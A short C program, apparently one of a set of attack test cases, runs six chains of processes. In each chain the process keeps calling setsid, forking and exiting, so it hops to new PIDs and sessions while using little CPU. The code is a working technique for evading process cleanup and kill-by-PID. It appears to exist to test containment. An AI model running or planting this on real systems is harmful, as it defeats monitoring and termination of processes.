/* The same, asleep for most of the time, so that it takes no processor time. */
#include "attack.h"

int main(void)
{
    for (int chain = 0; chain < 6; chain++) {
        if (fork() == 0) {
            for (;;) {
                setsid();
                usleep(1000);
                if (fork() != 0) {
                    _exit(0);
                }
            }
        }
    }
    sleep(60);
    return 0;
}
